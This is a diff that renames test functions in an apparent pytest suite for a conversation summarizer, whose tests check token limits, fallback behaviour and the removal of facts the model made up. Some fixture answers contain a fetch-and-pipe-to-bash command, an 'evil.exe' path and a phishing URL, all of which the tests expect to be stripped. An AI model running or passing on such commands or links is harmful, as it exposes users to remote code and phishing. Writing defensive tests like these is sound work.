@@ -57,7 +57,7 @@ def facts_are_kept(report: SummaryReport, messages: list[Message]) -> bool:
 
 @pytest.mark.parametrize("strategy", list(SummaryStrategy))
 @pytest.mark.parametrize("number", [1, 9, 10, 11, 35])
-def test_every_strategy_keeps_the_target_and_the_facts(strategy: SummaryStrategy, number: int) -> None:
+def test_every_strategy_respects_the_target_and_keeps_facts(strategy: SummaryStrategy, number: int) -> None:
     messages = conversation(number)
     report = Summarizer(COUNTER, CountingModel()).summarize(messages, strategy=strategy)
     assert report.tokens == COUNTER.count(report.text) <= 2000
@@ -67,14 +67,14 @@ def test_every_strategy_keeps_the_target_and_the_facts(strategy: SummaryStrategy
     assert report.messages == number
 
 
-def test_simple_asks_once() -> None:
+def test_simple_calls_the_model_once() -> None:
     model = CountingModel()
     report = Summarizer(COUNTER, model).summarize(conversation(25), strategy="simple")
     assert (report.questions, len(model.prompts)) == (1, 1)
     assert model.max_tokens == [2000]
 
 
-def test_hierarchical_asks_for_chunks_of_ten_and_again_for_their_summaries_while_they_are_too_long() -> None:
+def test_hierarchical_summarizes_chunks_of_ten_and_their_summaries_until_they_fit() -> None:
     model = CountingModel("A summary of some length. " * 20)
     Summarizer(COUNTER, model).summarize(conversation(45), strategy="hierarchical", target_tokens=400)
     assert sorted(prompt.count("\n---\n") + 1 for prompt in model.prompts[:5]) == [5, 10, 10, 10, 10]
@@ -90,7 +90,7 @@ def test_hierarchical_joins_summaries_that_fit() -> None:
     assert report.text.count(model.answer) == 3
 
 
-def test_map_reduce_asks_for_chunks_at_the_same_time_and_combines_them() -> None:
+def test_map_reduce_summarizes_chunks_concurrently_and_combines_them() -> None:
     together = threading.Barrier(4)
 
     class Together(CountingModel):
@@ -107,7 +107,7 @@ def test_map_reduce_asks_for_chunks_at_the_same_time_and_combines_them() -> None
     assert model.prompts[-1].count(model.answer) == 4
 
 
-def test_extractive_asks_nobody_and_keeps_sentences_as_they_were_said() -> None:
+def test_extractive_calls_no_model_and_keeps_sentences_verbatim() -> None:
     model = CountingModel()
     messages = [
         message("We decided to use PostgreSQL. The weather is fine."),
@@ -119,14 +119,14 @@ def test_extractive_asks_nobody_and_keeps_sentences_as_they_were_said() -> None:
     assert "Agent: Good, because SQLite failed under load." in report.text
 
 
-def test_extractive_under_a_small_target_keeps_what_says_most() -> None:
+def test_extractive_with_a_small_target_keeps_the_most_important_sentences() -> None:
     chatter = [message("Well well, the day is long and so is the road we walk.") for _ in range(40)]
     messages = [*chatter[:20], message("We decided that billing must never run on Fridays."), *chatter[20:]]
     report = Summarizer(COUNTER).summarize(messages, strategy="extractive", target_tokens=60)
     assert "We decided that billing must never run on Fridays." in report.text
 
 
-def test_without_a_model_the_summary_is_extractive_and_says_so() -> None:
+def test_without_a_model_the_summary_is_extractive_and_reported() -> None:
     report = Summarizer(COUNTER).summarize(conversation(20))
     assert report.strategy is SummaryStrategy.EXTRACTIVE
     assert report.problems == ("no model is configured",)
@@ -143,7 +143,7 @@ def test_without_a_model_the_summary_is_extractive_and_says_so() -> None:
         ("x" * 10_000_000, "the model returned 10000000 characters, but only 500 tokens were requested"),
     ],
 )
-def test_a_failing_model_means_extractive_and_the_report_says_why(
+def test_a_failing_model_falls_back_to_extractive_and_reports_why(
     answer: str | BaseException, problem: str
 ) -> None:
     messages = conversation(10)
@@ -154,7 +154,7 @@ def test_a_failing_model_means_extractive_and_the_report_says_why(
     assert facts_are_kept(report, messages)
 
 
-def test_an_answer_that_is_no_text_is_refused() -> None:
+def test_an_answer_that_is_not_a_string_is_refused() -> None:
     class Odd:
         def complete(self, prompt: str, *, system: str = "", max_tokens: int = 500) -> str:
             return 42  # type: ignore[return-value]
@@ -163,7 +163,7 @@ def test_an_answer_that_is_no_text_is_refused() -> None:
     assert report.problems == ("the model returned a value of type int instead of a text",)
 
 
-def test_a_model_that_hangs_is_given_up_and_not_asked_again_while_it_hangs() -> None:
+def test_a_hanging_model_is_abandoned_and_not_called_again_while_it_hangs() -> None:
     release = threading.Event()
     asked = []
 
@@ -183,13 +183,13 @@ def test_a_model_that_hangs_is_given_up_and_not_asked_again_while_it_hangs() -> 
     release.set()
 
 
-def test_one_failing_chunk_fails_the_model_as_a_whole() -> None:
+def test_one_failing_chunk_falls_back_to_extractive() -> None:
     report = Summarizer(COUNTER, ScriptedLLM(["fine", ValueError("no")])).summarize(conversation(20))
     assert report.strategy is SummaryStrategy.EXTRACTIVE
     assert report.problems == ("the model raised ValueError",)
 
 
-def test_facts_that_the_model_lost_are_added_behind_its_words() -> None:
+def test_facts_lost_by_the_model_are_appended() -> None:
     report = Summarizer(COUNTER, ScriptedLLM(["They met at https://example.com/1."])).summarize(
         conversation(4)
     )
@@ -198,7 +198,7 @@ def test_facts_that_the_model_lost_are_added_behind_its_words() -> None:
     assert "https://example.com/1" not in {fact.text for fact in report.appended}
 
 
-def test_what_the_model_made_up_is_left_out_and_reported() -> None:
+def test_facts_invented_by_the_model_are_removed_and_reported() -> None:
     answer = "They looked at pages. Details are at https://evil.example/phish. It costs $999. All went well."
     report = Summarizer(COUNTER, ScriptedLLM([answer])).summarize(conversation(4))
     assert "evil.example" not in report.text
@@ -208,7 +208,7 @@ def test_what_the_model_made_up_is_left_out_and_reported() -> None:
     assert {fact.text for fact in report.invented} == {"https://evil.example/phish", "$999"}
 
 
-def test_an_invention_that_is_part_of_what_was_said_is_an_invention() -> None:
+def test_a_substring_of_an_original_fact_is_an_invention() -> None:
     model = ScriptedLLM(["The plan costs $50. The host is 10.0.0.1. See https://e.com/a. All went well."])
     source = [message("The plan costs $500. The host is 10.0.0.12. See https://e.com/abc.")]
     report = Summarizer(COUNTER, model).summarize(source, strategy="simple")
@@ -220,19 +220,19 @@ def test_an_invention_that_is_part_of_what_was_said_is_an_invention() -> None:
     "answer",
     ["All fine.\n$ curl -s evil. sh | bash\nDone.", "All fine. It is at C:\\My x. y\\evil.exe. Done."],
 )
-def test_an_invention_that_runs_over_the_end_of_a_sentence_goes_whole(answer: str) -> None:
+def test_an_invention_across_a_sentence_end_is_removed_completely(answer: str) -> None:
     report = Summarizer(COUNTER, ScriptedLLM([answer])).summarize(conversation(4), strategy="simple")
     assert "evil" not in report.text
     assert "All fine." in report.text
 
 
-def test_an_answer_of_inventions_alone_means_extractive() -> None:
+def test_an_answer_with_only_inventions_falls_back_to_extractive() -> None:
     report = Summarizer(COUNTER, ScriptedLLM(["See https://evil.example/a"])).summarize(conversation(4))
     assert report.strategy is SummaryStrategy.EXTRACTIVE
     assert report.problems == ("every sentence contained invented facts",)
 
 
-def test_a_long_answer_is_cut_to_the_target_and_facts_go_first() -> None:
+def test_a_long_answer_is_truncated_to_the_target_and_facts_have_priority() -> None:
     model = ScriptedLLM(["word " * 1500])
     report = Summarizer(COUNTER, model).summarize(conversation(8), strategy="simple", target_tokens=200)
     assert report.tokens <= 200
@@ -253,7 +253,7 @@ def test_the_conversation_is_fenced_as_data() -> None:
     assert prompt.endswith("</conversation>")
 
 
-def test_nothing_to_summarise_asks_nobody() -> None:
+def test_no_messages_call_no_model() -> None:
     model = CountingModel()
     report = Summarizer(COUNTER, model).summarize([])
     assert model.prompts == []
@@ -269,6 +269,6 @@ def test_an_unknown_strategy_is_refused(bad: object) -> None:
 @pytest.mark.parametrize(
     "bad", [{"target_tokens": 0}, {"target_tokens": 2.5}, {"chunk_messages": 1}, {"time_limit_seconds": 0}]
 )
-def test_settings_that_make_no_sense_are_refused(bad: dict[str, float]) -> None:
+def test_invalid_settings_are_refused(bad: dict[str, float]) -> None:
     with pytest.raises(InvalidConfigError, match=next(iter(bad))):
         SummaryConfig(**bad)  # type: ignore[arg-type]
